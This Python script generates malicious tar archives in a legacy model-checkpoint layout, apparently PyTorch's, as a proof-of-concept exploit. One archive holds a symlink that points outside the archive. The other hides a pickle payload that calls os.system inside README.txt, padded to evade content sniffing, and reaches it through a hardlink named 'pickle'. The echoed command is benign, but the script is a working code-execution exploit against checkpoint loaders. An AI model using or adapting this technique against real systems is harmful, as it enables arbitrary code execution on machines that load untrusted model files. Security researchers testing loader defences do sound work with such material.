import tarfile, io, pickle, os
def add(t, name, data):
    ti = tarfile.TarInfo(name); ti.size = len(data); t.addfile(ti, io.BytesIO(data))
with tarfile.open('/tmp/r/legacy_symlink2.tar', 'w', format=tarfile.PAX_FORMAT) as t:
    add(t, 'sys_info', pickle.dumps({'protocol_version': 1001, 'little_endian': True, 'type_sizes': {'short':2,'int':4,'long':4}}, protocol=2))
    ti = tarfile.TarInfo('storages'); ti.type = tarfile.SYMTYPE; ti.linkname = '/tmp/r/elsewhere/notes.txt'; t.addfile(ti)
# within-archive: pickle -> hardlink to a member with innocuous name whose content evades sniffing
pay = b"cos\nsystem\n(S'echo PWNED_hardlink'\ntR."
evil = b"S'" + b'A'*5000 + b"'\n0" + pay
with tarfile.open('/tmp/r/legacy_hardlink.tar', 'w', format=tarfile.PAX_FORMAT) as t:
    add(t, 'sys_info', pickle.dumps({'protocol_version': 1001, 'little_endian': True, 'type_sizes': {'short':2,'int':4,'long':4}}, protocol=2))
    add(t, 'storages', pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2))
    add(t, 'tensors', pickle.dumps(0, protocol=2))
    add(t, 'README.txt', evil)
    ti = tarfile.TarInfo('pickle'); ti.type = tarfile.LNKTYPE; ti.linkname = 'README.txt'; t.addfile(ti)
